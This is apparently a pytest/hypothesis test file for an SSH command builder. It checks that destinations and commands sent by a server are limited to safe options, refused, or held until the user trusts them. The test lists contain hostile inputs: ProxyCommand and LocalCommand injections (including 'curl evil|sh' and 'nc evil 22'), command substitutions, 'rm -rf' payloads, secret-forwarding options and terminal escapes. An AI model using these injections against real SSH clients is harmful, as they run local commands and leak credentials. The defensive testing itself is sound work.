"""The SSH command grammar: what a server's answer may turn into on the user's machine.

Amika's destination may only be `[-p PORT] user@host`; a Devbox command keeps only allowed options, and a
ProxyCommand in it needs trust. Where OpenSSH is installed, `ssh -G` (which prints the configuration ssh
would use, without connecting) checks that ssh itself reads our argv the way we mean it.
"""

from __future__ import annotations

import re
import shlex
import shutil
import subprocess

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from boxdeck.api import AccessSession, SSHInfo
from boxdeck.service.access.sshcmd import (
    ProxyNotTrusted,
    SshCommandError,
    Verdict,
    amika_ssh_command,
    decide_amika,
    decide_devbox,
    devbox_ssh_command,
)

TOKEN = "sshtok_abcdefghijklmnopqrstuv"
SSH = shutil.which("ssh")


def amika(destination: str, token: str = TOKEN) -> SSHInfo:
    return SSHInfo.model_validate(
        {"ssh_destination": destination, "token": token, "expires_at": "2026-01-01T13:00:00Z"}
    )


def session(command: str = "", **ssh: object) -> AccessSession:
    base = {"host": "box.example.dev", "port": 2222, "username": "dev", "workspace_path": "/ws"}
    return AccessSession.model_validate(
        {"session_id": "s1", "expires_at": "2026-01-01T13:00:00Z", "command": command, "ssh": {**base, **ssh}}
    )


def ssh_reads(argv: tuple[str, ...]) -> dict[str, str]:
    """What the real ssh makes of `argv` (`ssh -G`: print the configuration, connect to nothing)."""
    assert SSH is not None
    out = subprocess.run([SSH, "-F", "/dev/null", "-G", *argv[1:]], capture_output=True, text=True,
                         timeout=10, stdin=subprocess.DEVNULL)
    assert out.returncode == 0, out.stderr
    config: dict[str, str] = {}
    for line in out.stdout.splitlines():
        key, _, value = line.partition(" ")
        config.setdefault(key, value)
    return config


needs_ssh = pytest.mark.skipif(SSH is None, reason="OpenSSH client not installed")


# ------------------------------------------------------------------------------------------------ Amika

GOOD_AMIKA = [
    # (ssh_destination, expected argv after "ssh")
    (f"-p 2222 {TOKEN}@ssh.app.daytona.io", ("-p", "2222", "--", f"{TOKEN}@ssh.app.daytona.io")),
    (f"{TOKEN}@ssh.app.daytona.io", ("--", f"{TOKEN}@ssh.app.daytona.io")),
    ("-p22 amika@10.0.3.17", ("-p", "22", "--", "amika@10.0.3.17")),
    ("  -p 65535   dev_user@Box-1.eu-west.example.COM.  ",
     ("-p", "65535", "--", "dev_user@Box-1.eu-west.example.COM.")),
    ("-p 2222 eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl@ssh.example",
     ("-p", "2222", "--", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl@ssh.example")),
    ("tok+base64_=x@host", ("--", "tok+base64_=x@host")),
    ("-p 2200 user-token@[2001:db8::1]", ("-p", "2200", "--", "user-token@2001:db8::1")),
    ("dev@[::1]", ("--", "dev@::1")),
    ("a1b2c3d4e5f60718293a4b5c6d7e8f90@localhost", ("--", "a1b2c3d4e5f60718293a4b5c6d7e8f90@localhost")),
]

BAD_AMIKA = [
    # the attack: a local command through ProxyCommand, in the forms ssh accepts
    "-oProxyCommand=sh\\ -c\\ 'touch\\ /tmp/pwned' -p 2222 tok@host",
    "-o ProxyCommand=nc\\ evil\\ 22 tok@host",
    "-p 2222 -oLocalCommand=id -oPermitLocalCommand=yes tok@host",
    "-F /tmp/evil_config tok@host",
    "-i /home/user/.ssh/id_rsa tok@host",
    "-J jump@evil tok@host",
    "-R 8080:localhost:22 tok@host",
    "-A tok@host",
    "-E /home/user/.bashrc tok@host",
    # options smuggled into the destination word itself
    "-oProxyCommand=x@host",
    "tok@-oProxyCommand=x",
    "-tok@host",
    # a remote command, two destinations, no user
    "tok@host uname -a",
    "tok@host other@host",
    "ssh.app.daytona.io",
    "@host",
    "tok@",
    # ports
    "-p 0 tok@host",
    "-p 65536 tok@host",
    "-p 022 tok@host",
    "-p +22 tok@host",
    "-p 22x tok@host",
    "-p tok@host",
    # characters real users and hosts do not have
    "to$k@host",
    "tok%r@host",
    "to'k@host",
    "tok@ho st",
    "tok@host;id",
    "tok@$(id).example",
    "tok@`id`.example",
    "tok@host\x1b]52;c;Zm9v\x07",
    "tok@-host.example",
    "tok@host-.example",
    "tok@ex..ample",
    "tok@" + "a" * 64 + ".example",
    "tok@[::1%eth0]",
    "tok@[not:an:address::x]",
    "tok@[10.0.0.1]",
    "tök@host",
    "tok@hóst.example",
    "tok@host\u202e.example",
    "ssh://tok@host:22",
    "",
    "   ",
]


@pytest.mark.parametrize(("destination", "argv"), GOOD_AMIKA)
def test_real_looking_amika_destinations_are_accepted(destination: str, argv: tuple[str, ...]) -> None:
    command = amika_ssh_command(amika(destination))
    assert command.argv == ("ssh", *argv)
    assert shlex.split(command.text) == list(command.argv)
    assert decide_amika(amika(destination)).verdict is Verdict.ALLOWED


@pytest.mark.parametrize("destination", BAD_AMIKA)
def test_anything_else_in_an_amika_destination_is_refused(destination: str) -> None:
    with pytest.raises(SshCommandError):
        amika_ssh_command(amika(destination))
    decision = decide_amika(amika(destination))
    assert decision.verdict is Verdict.REFUSED and decision.command is None and decision.reason


def test_the_refusal_says_what_is_wrong_without_repeating_server_text() -> None:
    with pytest.raises(SshCommandError) as refused:
        amika_ssh_command(amika("-oProxyCommand=sh\\ -c\\ 'curl evil|sh' -p 2222 tok@host"))
    assert str(refused.value) == "it holds an ssh option other than -p PORT"
    with pytest.raises(SshCommandError, match="empty SSH destination"):
        amika_ssh_command(amika(" "))


def test_amika_command_masks_the_token_even_as_the_user() -> None:
    command = amika_ssh_command(amika(f"-p 2222 {TOKEN}@ssh.app.daytona.io"))
    assert command.text == f"ssh -p 2222 -- {TOKEN}@ssh.app.daytona.io"
    assert command.secrets == (TOKEN,)
    assert TOKEN not in command.masked() and TOKEN not in repr(command)
    assert command.masked() == "ssh -p 2222 -- sshtok…@ssh.app.daytona.io"
    assert command.expires_at is not None and command.expires_at.hour == 13


def test_amika_token_like_user_is_a_secret_even_without_token_field() -> None:
    user = "u" * 32
    command = amika_ssh_command(amika(f"{user}@h.example", token=""))
    assert user not in command.masked()


_label = st.from_regex(r"[a-z0-9]([a-z0-9-]{0,10}[a-z0-9])?", fullmatch=True)
_hosts = st.one_of(
    st.lists(_label, min_size=1, max_size=4).map(".".join),
    st.ip_addresses(v=4).map(str),
    st.ip_addresses(v=6).map(lambda ip: f"[{ip}]"),
)
_users = st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9._+=-]{0,40}", fullmatch=True)
_ports = st.integers(min_value=1, max_value=65535)


@given(_users, _hosts, st.one_of(st.none(), _ports), st.booleans())
def test_every_destination_of_the_grammar_is_accepted(user: str, host: str, port: int | None,
                                                      attached: bool) -> None:
    prefix = "" if port is None else (f"-p{port} " if attached else f"-p {port} ")
    command = amika_ssh_command(amika(f"{prefix}{user}@{host}", token=""))
    options = () if port is None else ("-p", str(port))
    assert command.argv[: len(options) + 2] == ("ssh", *options, "--")
    destination = command.argv[-1]
    assert destination.startswith(f"{user}@") and len(command.argv) == len(options) + 3
    assert shlex.split(command.text) == list(command.argv)


@given(st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=5).map(" ".join))
@example("-oProxyCommand=id -p 22 tok@host")
@example("-p 22 tok@host -oProxyCommand=id")
def test_whatever_a_server_sends_an_accepted_command_has_only_a_port_before_the_destination(raw: str) -> None:
    decision = decide_amika(amika(raw, token=""))
    if decision.verdict is Verdict.REFUSED:
        assert decision.command is None
        return
    assert decision.command is not None
    argv = decision.command.argv
    assert argv[0] == "ssh" and argv[-2] == "--"
    assert argv[1:-2] in ((), ("-p", argv[2]))
    assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9._+=-]*@[A-Za-z0-9.:_-]+", argv[-1])
    assert not argv[-1].startswith("-")


@given(st.sampled_from(["-o", "-F", "-i", "-J", "-E", "-S", "-L", "-R", "-D", "-W", "-b", "-B"]),
       st.text(min_size=1, max_size=40), _users, _hosts)
def test_any_option_besides_the_port_refuses_the_destination(flag: str, value: str, user: str,
                                                             host: str) -> None:
    for destination in (f"{flag} {value} {user}@{host}", f"{flag}{value} -p 22 {user}@{host}"):
        assert decide_amika(amika(destination)).verdict is Verdict.REFUSED


@needs_ssh
@pytest.mark.parametrize(("destination", "_argv"), GOOD_AMIKA)
def test_ssh_reads_the_amika_command_as_meant(destination: str, _argv: tuple[str, ...]) -> None:
    command = amika_ssh_command(amika(destination))
    config = ssh_reads(command.argv)
    user, _, host = command.argv[-1].partition("@")
    assert config["user"] == user
    assert config["hostname"].lower() == host.lower()
    assert config["port"] == (command.argv[2] if command.argv[1] == "-p" else "22")
    assert "proxycommand" not in config and "localcommand" not in config


@needs_ssh
def test_a_remote_command_after_the_destination_is_never_an_option_to_ssh() -> None:
    command = amika_ssh_command(amika(f"-p 2222 {TOKEN}@ssh.example"))
    config = ssh_reads((*command.argv, "-oProxyCommand=touch /tmp/pwned"))
    assert "proxycommand" not in config and config["port"] == "2222"


# ----------------------------------------------------------------------------------------------- Devbox


def test_devbox_clean_server_command_is_used_with_the_destination_last() -> None:
    command = devbox_ssh_command(session("ssh dev@box.example.dev -p 2222"))
    assert command.argv == ("ssh", "-p", "2222", "--", "dev@box.example.dev")
    assert command.text == "ssh -p 2222 -- dev@box.example.dev"
    assert command.secrets == () and command.dropped == ()


def test_devbox_proxy_command_needs_trust_and_is_kept_as_one_word() -> None:
    proxy = "sprite-proxy --relay relay.example %h %p"
    server = session(f"ssh -o {shlex.quote('ProxyCommand=' + proxy)} dev@box.internal -p 22",
                     proxy_command=proxy, ssh_port=22, host="box.internal", port=22)
    decision = decide_devbox(server)
    assert decision.verdict is Verdict.NEEDS_TRUST and decision.proxy_command == proxy
    with pytest.raises(ProxyNotTrusted) as untrusted:
        devbox_ssh_command(server)
    assert untrusted.value.proxy_command == proxy
    trusted = decide_devbox(server, {proxy})
    assert trusted.verdict is Verdict.ALLOWED and trusted.command is not None
    assert trusted.command.argv == (
        "ssh", "-o", f"ProxyCommand={proxy}", "-p", "22", "--", "dev@box.internal"
    )
    assert trusted.command.text == f"ssh -o 'ProxyCommand={proxy}' -p 22 -- dev@box.internal"
    assert decide_devbox(server, {proxy + " "}).verdict is Verdict.NEEDS_TRUST  # the exact command only


@pytest.mark.parametrize(
    "command",
    [
        "ssh -oProxyCommand='nc %h %p' dev@box.example.dev",
        "ssh -o 'ProxyCommand nc %h %p' dev@box.example.dev",
        "ssh -o 'proxycommand = nc %h %p' dev@box.example.dev",
        "ssh -4CoProxyCommand='nc %h %p' dev@box.example.dev",
        "ssh dev@box.example.dev -o 'ProxyCommand=nc %h %p'",
    ],
)
def test_every_spelling_of_a_proxy_command_needs_trust(command: str) -> None:
    decision = decide_devbox(session(command))
    assert decision.verdict is Verdict.NEEDS_TRUST and decision.proxy_command == "nc %h %p"


def test_devbox_proxy_from_the_ssh_fields_needs_trust_too() -> None:
    decision = decide_devbox(session("", proxy_command="nc %h %p", ssh_port=22))
    assert decision.verdict is Verdict.NEEDS_TRUST
    assert decision.command is not None
    assert decision.command.argv[-4:] == ("-p", "22", "--", "dev@box.example.dev")
    fallback = decide_devbox(session("", proxy_command="nc %h %p"), {"nc %h %p"})
    assert fallback.command is not None and fallback.command.argv[-4:-2] == ("-p", "2222")


LOCAL_PROGRAM_OPTIONS = [
    ("-o LocalCommand=id -o PermitLocalCommand=yes", {"LocalCommand", "PermitLocalCommand"}),
    ("-o 'KnownHostsCommand /bin/sh -c id'", {"KnownHostsCommand"}),
    ("-o ProxyUseFdpass=yes", {"ProxyUseFdpass"}),
    ("-o IdentityAgent=/tmp/evil.sock -o IdentityFile=~/.ssh/id_ed25519", {"IdentityAgent", "IdentityFile"}),
    ("-o CertificateFile=/etc/passwd -o ControlPath=/tmp/c -o ControlMaster=auto", {
        "CertificateFile", "ControlPath", "ControlMaster"}),
    ("-o Include=/tmp/evil -o UserKnownHostsFile=/dev/null", {"Include", "UserKnownHostsFile"}),
    ("-o 'Match exec id'", {"Match"}),
    ("-o StrictHostKeyChecking=no -o HostKeyAlias=github.com", {"StrictHostKeyChecking", "HostKeyAlias"}),
    ("-o SendEnv=AWS_SECRET_ACCESS_KEY -o ForwardAgent=yes -o RemoteForward='9 localhost:22'",
     {"SendEnv", "ForwardAgent", "RemoteForward"}),
    ("-o PKCS11Provider=/tmp/evil.so -o SecurityKeyProvider=/tmp/evil.so",
     {"PKCS11Provider", "SecurityKeyProvider"}),
    ("-F /tmp/evil_config -i ~/.ssh/id_rsa -E ~/.bashrc -S /tmp/ctl", {"-F", "-i", "-E", "-S"}),
    ("-A -X -Y -J jump@evil -R 8080:localhost:22 -L 1:h:2 -D 1080 -w 0:0 -I lib.so",
     {"-A", "-X", "-Y", "-J", "-R", "-L", "-D", "-w", "-I"}),
    ("-M -N -f -G -s", {"-M", "-N", "-f", "-G", "-s"}),
]


@pytest.mark.parametrize(("options", "dropped"), LOCAL_PROGRAM_OPTIONS)
def test_options_that_run_or_read_local_things_are_dropped(options: str, dropped: set[str]) -> None:
    decision = decide_devbox(session(f"ssh {options} dev@box.example.dev -p 2222"))
    assert decision.verdict is Verdict.ALLOWED and decision.command is not None
    assert decision.command.argv == ("ssh", "-p", "2222", "--", "dev@box.example.dev")
    assert set(decision.dropped) == dropped


def test_harmless_options_a_server_may_set_are_kept_before_the_destination() -> None:
    command = devbox_ssh_command(session(
        "ssh -tt -o StrictHostKeyChecking=accept-new -o ServerAliveInterval=30 -o LogLevel=ERROR "
        "dev@box.example.dev -p 2222"
    ))
    assert command.argv == ("ssh", "-t", "-t", "-o", "StrictHostKeyChecking=accept-new",
                            "-o", "ServerAliveInterval=30", "-o", "LogLevel=error", "-p", "2222",
                            "--", "dev@box.example.dev")


@pytest.mark.parametrize(
    "bad",
    [
        "", "   ", "scp a b", "ssh dev@box\nrm -rf ~", "ssh 'unbalanced", "ssh", "ssh dev@box\x1b[31m",
        "ssh dev@box.example.dev uname -a",  # a remote command is not the server's to choose
        "ssh -Z dev@box",  # not an ssh option
        "ssh -p", "ssh -o", "ssh dev@box;rm -rf ~", "ssh dev@$(id).box", "ssh -- -oProxyCommand=x@h",
        "ssh ssh://dev@box:22", "ssh -p 0 dev@box", "ssh -l 'a b' box",
        "ssh -o 'ProxyCommand=nc\u202e %h %p' dev@box",  # what is shown must be what runs
    ],
)
def test_devbox_rebuilds_from_ssh_when_the_command_is_unusable(bad: str) -> None:
    command = devbox_ssh_command(session(bad))
    assert command.argv == ("ssh", "-p", "2222", "--", "dev@box.example.dev")


@pytest.mark.parametrize(
    "fields",
    [
        {"host": ""},
        {"host": "-oProxyCommand=id"},
        {"host": "evil@box.example.dev"},
        {"host": "box;id"},
        {"username": "dev$(id)"},
        {"username": "-oProxyCommand=id"},
        {"port": 0},
        {"port": 70000},
        {"proxy_command": "nc %h %p\nid"},
        {"proxy_command": "nc\x1b[2J %h %p"},
    ],
)
def test_devbox_with_neither_a_usable_command_nor_usable_fields_is_refused(fields: dict[str, object]) -> None:
    decision = decide_devbox(session("rm -rf /", **fields))
    assert decision.verdict is Verdict.REFUSED and decision.command is None
    with pytest.raises(SshCommandError):
        devbox_ssh_command(session("rm -rf /", **fields))


SAFE_WORD = re.compile(r"-[46CtTqvax]|-p|[0-9]+|-o")
SAFE_OPTION = re.compile(
    r"(StrictHostKeyChecking|ServerAliveInterval|ServerAliveCountMax|ConnectTimeout|ConnectionAttempts|"
    r"TCPKeepAlive|Compression|CheckHostIP|RequestTTY|AddressFamily|LogLevel)=[a-z0-9-]+|ProxyCommand=.+"
)
_ssh_words = st.lists(
    st.one_of(
        st.sampled_from(["-o", "-p", "-l", "-F", "-i", "--", "-t", "-oProxyCommand=id", "-oLocalCommand=id",
                         "dev@box.example.dev", "box", "2222", "ProxyCommand=id", "PermitLocalCommand=yes"]),
        st.text(max_size=15),
    ),
    max_size=8,
)


@given(_ssh_words, st.booleans())
@example(["-oProxyCommand=id", "dev@box.example.dev"], False)
@example(["-o", "LocalCommand=id", "-F", "x", "dev@box.example.dev", "-p", "22"], False)
def test_whatever_the_devbox_command_only_allowed_words_come_before_the_destination(
    words: list[str], trust_everything: bool
) -> None:
    command_text = shlex.join(["ssh", *words])

    class Everything:
        def __contains__(self, item: object) -> bool:
            return trust_everything

    decision = decide_devbox(session(command_text), Everything())
    if decision.verdict is Verdict.REFUSED:
        return
    assert decision.command is not None
    argv = decision.command.argv
    assert argv[0] == "ssh" and argv[-2] == "--" and not argv[-1].startswith("-")
    options = argv[1:-2]
    for i, word in enumerate(options):
        previous = options[i - 1] if i else ""
        assert SAFE_WORD.fullmatch(word) or (previous == "-o" and SAFE_OPTION.fullmatch(word)), argv
    has_proxy = any(w.startswith("ProxyCommand=") for w in options)
    assert has_proxy == (decision.proxy_command is not None)
    if has_proxy:
        assert decision.verdict is (Verdict.ALLOWED if trust_everything else Verdict.NEEDS_TRUST)
    assert shlex.split(decision.command.text) == list(argv)


@needs_ssh
@pytest.mark.parametrize(("options", "_dropped"), LOCAL_PROGRAM_OPTIONS)
def test_ssh_reads_the_devbox_command_without_the_dropped_options(options: str, _dropped: set[str]) -> None:
    command = devbox_ssh_command(session(f"ssh {options} dev@box.example.dev -p 2222"))
    config = ssh_reads(command.argv)
    assert (config["user"], config["hostname"], config["port"]) == ("dev", "box.example.dev", "2222")
    for key in ("proxycommand", "localcommand", "knownhostscommand", "identityagent", "controlpath",
                "certificatefile", "pkcs11provider", "remoteforward", "localforward", "dynamicforward",
                "proxyjump", "sendenv"):
        assert key not in config
    assert config["permitlocalcommand"] == "no" and config["forwardagent"] == "no"
    assert config.get("stricthostkeychecking") != "false"


@needs_ssh
def test_ssh_runs_exactly_the_trusted_proxy_command() -> None:
    proxy = "devbox-proxy --relay r.example %h %p"
    command = devbox_ssh_command(session("", proxy_command=proxy, ssh_port=22), {proxy})
    assert ssh_reads(command.argv)["proxycommand"] == proxy
